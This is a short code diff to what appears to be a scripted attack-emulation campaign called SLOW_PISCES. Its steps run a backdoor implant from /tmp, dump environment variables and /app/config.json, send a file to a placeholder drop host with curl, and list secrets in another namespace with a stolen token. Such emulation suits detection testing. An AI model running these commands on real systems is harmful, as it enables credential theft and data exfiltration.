@@ -83,7 +83,7 @@ export const SLOW_PISCES: Campaign = {
       ['40:20', 4, run('backdoor', '/tmp/.u', { as: 'implant', to: [[drop, 443]] })],
       ['60:00', 5, run('implant', `/bin/sh -c 'env; cat /app/config.json'`)],
       ['61:00', 5, run('implant', `/usr/bin/curl -s -F f=@/tmp/.d http://${drop}/u`, { to: [[drop, 80]] })],
-      ['61:30', 5, api(token(GO, { of: OTHER }), list('secrets', other.namespace))]
+      ['61:30', 5, api(token(GO, { of: evades('patch') ? 'backdoor' : OTHER }), list('secrets', other.namespace))]
     ]
   }
 }
